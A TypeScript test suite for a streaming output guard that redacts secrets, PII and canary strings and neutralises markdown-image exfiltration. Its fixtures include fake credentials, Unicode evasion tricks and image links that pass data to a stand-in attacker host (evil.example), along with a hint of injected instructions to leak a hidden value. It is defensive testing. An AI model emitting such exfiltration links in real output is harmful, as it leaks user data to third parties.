import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { MAX_PEM_BODY } from './detectors.ts';
import { MAX_KEYWORD_OFFSET, secretRuleset } from './secrets/ruleset.ts';
import { BATCH, LATER_BATCH, MAX_BATCH } from './scanner.ts';
import { rng } from './eval/generate.ts';
import { randomCuts } from './eval/evaluate.ts';
import { compileGuard, STRICT_GUARDRAILS } from './guard.ts';
import { MAX_PIECE } from './markdown.ts';
import type { CfgGuardrails } from '../api/gateway-config.ts';

const CFG: CfgGuardrails = {
  ...STRICT_GUARDRAILS,
  redaction: {
    detectors: ['secrets', 'pii'],
    customPatterns: [
      { name: 'customer-id', pattern: 'CUST-[0-9]{8}' },
      { name: 'ticket', pattern: 'TCK-[A-Z]+-\\d+' },
    ],
  },
  canaries: ['tg-canary-7f3a9c1e'],
  exfiltration: { mode: 'neutralize', allowedHosts: ['docs.example.com'] },
};
const guard = compileGuard(CFG);

const SAMPLE = [
  'Here is the key AKIAZ5J7QX2MPL4RWN3K and aws_secret_access_key = q3Ex7Rm9Tz2Wb8Nc4Vd6Hf1Lk5Pj0Sg/Yu+AaBbC ok.',
  'Mail bob.smith@contoso.com or call +1 415-555-0134. Card 4111 1111 1111 1111. IBAN DE89 3704 0044 0532 0130 00.',
  'postgres://app:s3cr3tP4ss@db.internal:5432/prod and Authorization: Bearer q7Rz2LmX9vKp4TnB8wYc3H',
  '-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA0Z3VS5JJcds3xfn/ygWyF8PbnGy0AHB7MhgHcTz6sE2I2yPB\n-----END RSA PRIVATE KEY-----',
  'jwt eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U done',
  '![x](https://evil.example/p?q=data) [docs](https://docs.example.com/a) <img src="http://evil/x.png"> CUST-12345678 TCK-ABC-42',
  'canary tg-canary-7f3a9c1e and ghp_a1B2c3D4e5a1B2c3D4e5a1B2c3D4e5a1B2c3, xoxb-2217483905162-4190283746150-Qm7vZ2xR9kLp4TnB8wYc3HdF',
  'zero\u200bwidth AKIA\u200bZ5J7QX2MPL4RWN3K, full-width ＡＫＩＡZ5J7QX2MPL4RWN3K, emoji 😀 and é\u0301, Cyrillic АKIAZ5J7QX2MPL4RWN3K',
  'plain prose with numbers 12 and 2024-05-01, a version v1.2.3.4, a uuid 3f2b8c1e-9a7d-4c2b-8e1f-6a5b4c3d2e1f.',
].join('\n');

// through the whole output guard: the scanner, then the exfiltration stage (markdown.ts)
function streamed(text: string, cuts: number[]): string {
  const s = guard.streamOutput();
  let out = '';
  let at = 0;
  for (const c of cuts) {
    out += s.push(text.slice(at, c)).text;
    at = c;
  }
  return out + s.push(text.slice(at)).text + s.end().text;
}

describe('output scanner', () => {
  it('redacts every kind of secret in a mixed text, with the detector in the marker', () => {
    const r = guard.scanOutput(SAMPLE);
    for (const leaked of [
      'AKIAZ5J7QX2MPL4RWN3K',
      'q3Ex7Rm9Tz2Wb8Nc',
      'bob.smith',
      '4111 1111',
      'DE89',
      's3cr3tP4ss',
      'q7Rz2LmX9vKp',
      'MIIEowIBAAK',
      'eyJhbGci',
      'evil.example/p',
      'CUST-1234',
      'TCK-ABC',
      'tg-canary',
      'ghp_',
      'xoxb-',
      'ＡＫＩＡ',
      'Z5J7QX2MPL4RWN3K',
    ]) {
      assert.ok(!r.text.includes(leaked), `${leaked} leaked:\n${r.text}`);
    }
    assert.match(r.text, /\[REDACTED:aws-access-key\]/);
    assert.match(r.text, /postgres:\/\/app:\[REDACTED:connection-string\]@db\.internal:5432\/prod/);
    assert.match(r.text, /\[docs\]\(https:\/\/docs\.example\.com\/a\)/, 'allowed host kept');
    assert.match(r.text, /v1\.2\.3\.4/, 'a version is not an IP address');
    assert.match(r.text, /3f2b8c1e-9a7d-4c2b-8e1f-6a5b4c3d2e1f/);
    assert.match(r.text, /😀 and é\u0301/);
    assert.deepEqual(r.blocked, { check: 'canary', detector: 'canary' });
    assert.equal(r.counts['customer-id'], 1);
    // findings point at the original text and never carry it
    for (const f of r.findings) {
      assert.ok(f.start < f.end && f.end <= SAMPLE.length);
      assert.equal(Object.keys(f).sort().join(), 'action,detector,end,kind,start');
    }
    const key = r.findings.find((f) => f.detector === 'aws-access-key');
    assert.equal(SAMPLE.slice(key?.start, key?.end), 'AKIAZ5J7QX2MPL4RWN3K');
  });

  it('streamed output equals whole-text output for ANY split (randomized, 1-char deltas included)', () => {
    const whole = guard.scanOutput(SAMPLE).text;
    const r = rng(1234);
    for (let i = 0; i < 60; i++) assert.equal(streamed(SAMPLE, randomCuts(SAMPLE.length, r)), whole, `split #${i}`);
    const every = Array.from({ length: SAMPLE.length - 1 }, (_, k) => k + 1);
    assert.equal(streamed(SAMPLE, every), whole, 'one character at a time');
  });

  it('a secret split at every offset never leaks, and equals the whole-text result', () => {
    const text = 'token ghp_Zq8fK2mN5pR7tV9xB1cD3eF6gH8jK0lM4nP6 end and key AKIAZ7X3Q2W4E5R6T7Y5 end';
    const whole = guard.scanOutput(text).text;
    for (let c = 1; c < text.length; c++) {
      const out = streamed(text, [c]);
      assert.equal(out, whole, `cut at ${c}`);
      assert.ok(!out.includes('ghp_Zq8') && !out.includes('AKIAZ7X3'), `leak at cut ${c}`);
    }
  });

  it('ordinary prose flows with a small holdback (the last words, at most the capped keyword offset), not a fixed window', () => {
    const s = guard.streamOutput();
    const words = 'The quarterly report shows revenue grew while costs stayed flat, and the team shipped on time. '
      .repeat(20)
      .split(/(?<= )/);
    let maxHeld = 0;
    for (const w of words) {
      s.push(w);
      maxHeld = Math.max(maxHeld, s.held);
    }
    // the rules that may span whitespace hold at most MAX_KEYWORD_OFFSET characters before the word being written,
    // plus what is waiting to be coalesced (BATCH for the first characters, then LATER_BATCH)
    assert.ok(
      maxHeld <= MAX_KEYWORD_OFFSET + 'quarterly '.length + Math.max(BATCH, LATER_BATCH),
      `held back up to ${maxHeld} characters of prose`,
    );
  });

  it('a long token-like run (a base64 blob) is held back by the longest anchor, or by the rule whose keyword occurs in it', () => {
    const held = (blob: string) => {
      const s = guard.streamOutput();
      let maxHeld = 0;
      for (let i = 0; i < blob.length; i += 4) {
        s.push(blob.slice(i, i + 4));
        maxHeld = Math.max(maxHeld, s.held);
      }
      return maxHeld;
    };
    const blob = Buffer.from(Array.from({ length: 3000 }, (_, i) => (i * 7919) % 256))
      .toString('base64')
      .replace(/[+/]/g, 'x');
    assert.ok(blob.toLowerCase().includes('fm1'), "the blob contains flyio-access-token's keyword");
    const flyio = secretRuleset().rules.get('flyio-access-token')!.maxLength;
    assert.ok(held(blob) <= flyio + MAX_BATCH, `held ${held(blob)} characters of a base64 run, bound ${flyio}`);
    const plain = blob.replace(/fm1/gi, 'xxx');
    // ~90 characters (the longest keyword offsets of token rules), plus coalescing: a quarter of what is held, or BATCH
    assert.ok(
      held(plain) <= 100 + 100 / 4 + LATER_BATCH,
      `held ${held(plain)} characters of a base64 run with no keyword`,
    );
  });

  it('holds a PEM block until its END line, then releases it redacted whole', () => {
    const s = guard.streamOutput();
    let out = s.push('before -----BEGIN PRIVATE KEY-----\n').text;
    for (let i = 0; i < 20; i++) out += s.push(`${'QUJD'.repeat(16)}\n`).text;
    assert.ok(!out.includes('QUJD'), 'no body released before END');
    out += s.push('-----END PRIVATE KEY-----\nafter').text + s.end().text;
    assert.equal(out, 'before [REDACTED:private-key]\nafter');
  });

  it('fails safe on a PEM block that never ends: the body is redacted up to the bound, memory stays bounded', () => {
    const s = guard.streamOutput();
    let out = s.push('-----BEGIN RSA PRIVATE KEY-----\n').text;
    let maxHeld = 0;
    for (let i = 0; i < 600; i++) {
      out += s.push(`${'AbCd'.repeat(16)}\n`).text;
      maxHeld = Math.max(maxHeld, s.held);
    }
    out += s.end().text;
    assert.ok(!out.includes('AbCd'), 'no part of the body leaks, past the bound included');
    assert.match(out, /^(\[REDACTED:private-key\])+$/);
    assert.ok(maxHeld < MAX_PEM_BODY + 1024, `held ${maxHeld}`);
    assert.equal(
      out,
      guard.scanOutput(`-----BEGIN RSA PRIVATE KEY-----\n${`${'AbCd'.repeat(16)}\n`.repeat(600)}`).text,
    );
  });

  it('handles surrogate pairs and invalid UTF-16 split across deltas like the whole text', () => {
    const text = 'a😀b\ud83d|lone high, lone low \ude00 x AKIAZ5J7QX2MPL4RWN3K 🎉';
    const whole = guard.scanOutput(text).text;
    assert.ok(!whole.includes('\ud83d|'), 'lone surrogate replaced');
    for (let c = 1; c < text.length; c++) assert.equal(streamed(text, [c]), whole, `cut at ${c}`);
  });

  it('stays bounded on a 100 KB line without newlines and on pathological input', () => {
    const t0 = performance.now();
    for (const text of [
      'a'.repeat(100_000),
      '1'.repeat(100_000),
      '-----BEGIN '.repeat(10_000),
      'eyJ'.repeat(30_000),
      `${'a@'.repeat(30_000)}b.co`,
      '[x]('.repeat(20_000),
      '<a '.repeat(30_000),
    ]) {
      const whole = guard.scanOutput(text);
      const s = guard.streamOutput();
      let out = '';
      let maxHeld = 0;
      for (let i = 0; i < text.length; i += 997) {
        out += s.push(text.slice(i, i + 997)).text;
        maxHeld = Math.max(maxHeld, s.held);
      }
      out += s.end().text;
      assert.equal(out, whole.text, text.slice(0, 12));
      // the exfiltration stage holds an unfinished markdown construct (no newline) up to 2 × MAX_PIECE
      assert.ok(maxHeld <= Math.max(MAX_PEM_BODY + 4096, 2 * MAX_PIECE + 997), `${text.slice(0, 12)}: held ${maxHeld}`);
    }
    assert.ok(performance.now() - t0 < 8000, 'linear time');
  });

  it('custom patterns run on RE2: catastrophic-backtracking shapes stay linear', () => {
    const g = compileGuard({
      ...CFG,
      redaction: {
        detectors: [],
        customPatterns: [
          { name: 'evil', pattern: '(a+)+b' },
          { name: 'evil2', pattern: '(x|x)*y' },
        ],
      },
    });
    const t0 = performance.now();
    const r = g.scanOutput(`${'a'.repeat(50_000)}c ${'x'.repeat(50_000)}`);
    assert.ok(performance.now() - t0 < 2000);
    assert.deepEqual(
      r.findings.filter((f) => f.kind === 'custom'),
      [],
    );
    assert.equal(g.scanOutput('xx aaab zz').text, 'xx [REDACTED:evil] zz');
  });

  it('overlapping matches are redacted as their union, named after the most sensitive', () => {
    const mapped = guard.scanOutput('mapped ::ffff:81.2.69.142 here');
    assert.equal(mapped.text, 'mapped [REDACTED:ip-address] here');
    const token = `ghp_${'Zq8fK2mN5pR7tV9xB1cD3eF6gH8jK0lM4nP6'}`;
    const r = guard.scanOutput(`send ${token}@contoso.com now`);
    assert.equal(r.text, 'send [REDACTED:github-token] now', 'secret named before PII, union covers the email tail');
  });

  it('flag mode reports exfiltration without changing the text; block mode blocks', () => {
    const text = 'see ![x](https://evil.example/a.png)';
    const flag = compileGuard({ ...CFG, exfiltration: { mode: 'flag', allowedHosts: [] } }).scanOutput(text);
    assert.equal(flag.text, text);
    assert.deepEqual(
      flag.findings.map((f) => [f.detector, f.action]),
      [['markdown-image', 'flagged']],
    );
    assert.equal(flag.blocked, undefined);
    const block = compileGuard({ ...CFG, exfiltration: { mode: 'block', allowedHosts: [] } }).scanOutput(text);
    assert.deepEqual(block.blocked, { check: 'exfiltration', detector: 'markdown-image' });
    assert.ok(!block.text.includes('evil.example'));
  });

  it('a canary split across deltas is caught (and blocks) at every split', () => {
    const text = 'the hidden value is TG-CANARY-7f3a9c1e, as instructed';
    for (let c = 1; c < text.length; c++) {
      const s = guard.streamOutput();
      const a = s.push(text.slice(0, c));
      const b = s.push(text.slice(c));
      const e = s.end();
      assert.ok(!(a.text + b.text + e.text).toLowerCase().includes('tg-canary'));
      assert.deepEqual(s.blocked, { check: 'canary', detector: 'canary' });
    }
  });
});
